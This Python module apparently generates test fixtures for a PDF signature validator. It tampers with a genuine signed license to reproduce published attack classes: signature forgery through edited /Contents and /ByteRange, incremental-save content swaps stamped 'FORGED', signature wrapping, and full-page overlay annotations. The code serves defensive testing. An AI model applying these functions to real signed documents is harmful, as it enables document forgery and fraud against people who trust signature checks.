"""Build attack files from a genuine signed license.

Each function takes the bytes of a genuine license and returns a tampered
document reproducing one published attack class on PDF signatures
(Mladenov et al., "1 Trillion Dollar Refund", CCS 2019; Mainka et al.,
"Shadow Attacks", NDSS 2021).
"""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.content import RawContent
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.layout import BoxConstraints

BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")
CONTENTS = re.compile(rb"/Contents\s*<([0-9A-Fa-f]*)>")
WHITE_BOX = b"q 1 1 1 rg 0 0 700 900 re f Q"
FORGED_TEXT = b"BT /F1 28 Tf 80 500 Td (FORGED) Tj ET"


def _same_length(original: bytes, replacement: bytes) -> bytes:
    assert len(replacement) <= len(original), "replacement longer than original"
    return replacement + b" " * (len(original) - len(replacement))


def _replace_once(data: bytes, pattern: re.Pattern[bytes], build) -> bytes:
    match = pattern.search(data)
    assert match, f"pattern {pattern.pattern!r} not found"
    old = match.group(0)
    return data[: match.start()] + _same_length(old, build(match)) + data[match.end() :]


# Universal signature forgery: the signature dictionary is manipulated.


def usf_contents_missing(data: bytes) -> bytes:
    return _replace_once(data, CONTENTS, lambda m: b"/Foo <" + m.group(1)[:8] + b">")


def usf_contents_empty(data: bytes) -> bytes:
    return _replace_once(data, CONTENTS, lambda m: b"/Contents <>")


def usf_contents_zeroed(data: bytes) -> bytes:
    return _replace_once(
        data, CONTENTS, lambda m: b"/Contents <" + b"0" * len(m.group(1)) + b">"
    )


def usf_contents_null(data: bytes) -> bytes:
    return _replace_once(data, CONTENTS, lambda m: b"/Contents null")


def usf_byte_range_missing(data: bytes) -> bytes:
    return _replace_once(data, BYTE_RANGE, lambda m: b"/FooRange [0 0 0 0]")


def usf_byte_range_empty(data: bytes) -> bytes:
    return _replace_once(data, BYTE_RANGE, lambda m: b"/ByteRange []")


def usf_byte_range_null(data: bytes) -> bytes:
    return _replace_once(data, BYTE_RANGE, lambda m: b"/ByteRange null")


def usf_byte_range_overlapping(data: bytes) -> bytes:
    def build(m: re.Match[bytes]) -> bytes:
        start, length, second, rest = (int(g) for g in m.groups())
        return b"/ByteRange [%d %d %d %d]" % (start, length + 100, second - 100, rest)

    return _replace_once(data, BYTE_RANGE, build)


def usf_byte_range_gap(data: bytes) -> bytes:
    def build(m: re.Match[bytes]) -> bytes:
        start, length, second, rest = (int(g) for g in m.groups())
        return b"/ByteRange [%d %d %d %d]" % (start, length - 200, second, rest)

    return _replace_once(data, BYTE_RANGE, build)


def usf_byte_range_past_end(data: bytes) -> bytes:
    def build(m: re.Match[bytes]) -> bytes:
        start, length, second, rest = (int(g) for g in m.groups())
        return b"/ByteRange [%d %d %d %d]" % (start, length, second, rest + 5000)

    return _replace_once(data, BYTE_RANGE, build)


# Incremental saving: a later revision changes what the page shows.


def _append_revision(data: bytes, change) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    change(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def isa_page_content_with_xref(data: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        stream = generic.StreamObject(stream_data=WHITE_BOX + b"\n" + FORGED_TEXT)
        writer.add_stream_to_page(0, writer.add_object(stream))

    return _append_revision(data, change)


def isa_page_content_without_xref(data: bytes) -> bytes:
    """Append a new content stream object and page override with no xref."""
    size = int(re.findall(rb"/Size\s+(\d+)", data)[-1])
    stream = WHITE_BOX + b"\n" + FORGED_TEXT
    appended = (
        b"\n%d 0 obj\n<< /Length %d >>\nstream\n" % (size, len(stream))
        + stream
        + b"\nendstream\nendobj\n"
    )
    return data + appended + b"%%EOF\n"


# Signature wrapping: objects in the signature value's space or after the
# signed range, with a new trailer pointing at them.


def swa_objects_in_contents(data: bytes) -> bytes:
    match = CONTENTS.search(data)
    assert match
    hex_start = match.start(1)
    hex_value = match.group(1)
    payload = b"> 9999 0 obj << /Type /Catalog >> endobj <"
    # Overwrite the zero padding at the end of the signature value.
    position = hex_start + len(hex_value) - len(payload) - 2
    tampered = data[:position] + payload + data[position + len(payload) :]
    trailer = (
        b"\nxref\n9999 1\n%010d 00000 n \ntrailer\n<< /Size 10000 /Root 9999 0 R >>\n"
        b"startxref\n%d\n%%%%EOF\n" % (position + 2, len(tampered) + 1)
    )
    return tampered + trailer


def swa_objects_after_signed_range(data: bytes) -> bytes:
    size = int(re.findall(rb"/Size\s+(\d+)", data)[-1])
    body = b"\n%d 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\n" % size
    offset = len(data) + 1
    xref_at = len(data) + len(body)
    xref = (
        b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %d 0 R >>\n"
        b"startxref\n%d\n%%%%EOF\n" % (size, offset, size + 1, size, xref_at)
    )
    return data + body + xref


# Shadow attacks and overlays are appended revisions that only re-point or
# add objects; see the tests for the hide-and-replace variants built with
# objects prepared before signing.


def overlay_annotation(data: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        appearance = RawContent(WHITE_BOX + b"\n", box=BoxConstraints(700, 900))
        ap_ref = writer.add_object(appearance.as_form_xobject())
        annotation = generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Annot"),
                generic.NameObject("/Subtype"): generic.NameObject("/Square"),
                generic.NameObject("/Rect"): generic.ArrayObject(
                    [generic.FloatObject(v) for v in (0, 0, 700, 900)]
                ),
                generic.NameObject("/AP"): generic.DictionaryObject(
                    {generic.NameObject("/N"): ap_ref}
                ),
            }
        )
        _add_annotation(writer, annotation)

    return _append_revision(data, change)


def overlay_signature_widget(data: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        appearance = RawContent(WHITE_BOX + b"\n", box=BoxConstraints(700, 900))
        ap_ref = writer.add_object(appearance.as_form_xobject())
        widget = generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Annot"),
                generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
                generic.NameObject("/FT"): generic.NameObject("/Sig"),
                generic.NameObject("/T"): generic.TextStringObject("Overlay"),
                generic.NameObject("/Rect"): generic.ArrayObject(
                    [generic.FloatObject(v) for v in (0, 0, 700, 900)]
                ),
                generic.NameObject("/AP"): generic.DictionaryObject(
                    {generic.NameObject("/N"): ap_ref}
                ),
            }
        )
        widget_ref = _add_annotation(writer, widget)
        acroform = writer.root["/AcroForm"]
        acroform["/Fields"].append(widget_ref)
        writer.update_container(acroform)

    return _append_revision(data, change)


def _add_annotation(writer: IncrementalPdfFileWriter, annotation) -> generic.Reference:
    page_ref = writer.root["/Pages"]["/Kids"][0]
    page = page_ref.get_object()
    annotation["/P"] = page_ref
    reference = writer.add_object(annotation)
    annotations = page.get("/Annots")
    if annotations is None:
        page["/Annots"] = generic.ArrayObject([reference])
    else:
        annotations = annotations.get_object()
        annotations.append(reference)
        if isinstance(page.raw_get("/Annots"), generic.IndirectObject):
            writer.update_container(annotations)
    writer.update_container(page)
    return reference


ALL_SIMPLE_ATTACKS = {
    "usf_contents_missing": usf_contents_missing,
    "usf_contents_empty": usf_contents_empty,
    "usf_contents_zeroed": usf_contents_zeroed,
    "usf_contents_null": usf_contents_null,
    "usf_byte_range_missing": usf_byte_range_missing,
    "usf_byte_range_empty": usf_byte_range_empty,
    "usf_byte_range_null": usf_byte_range_null,
    "usf_byte_range_overlapping": usf_byte_range_overlapping,
    "usf_byte_range_gap": usf_byte_range_gap,
    "usf_byte_range_past_end": usf_byte_range_past_end,
    "isa_page_content_with_xref": isa_page_content_with_xref,
    "isa_page_content_without_xref": isa_page_content_without_xref,
    "swa_objects_in_contents": swa_objects_in_contents,
    "swa_objects_after_signed_range": swa_objects_after_signed_range,
    "overlay_annotation": overlay_annotation,
    "overlay_signature_widget": overlay_signature_widget,
}
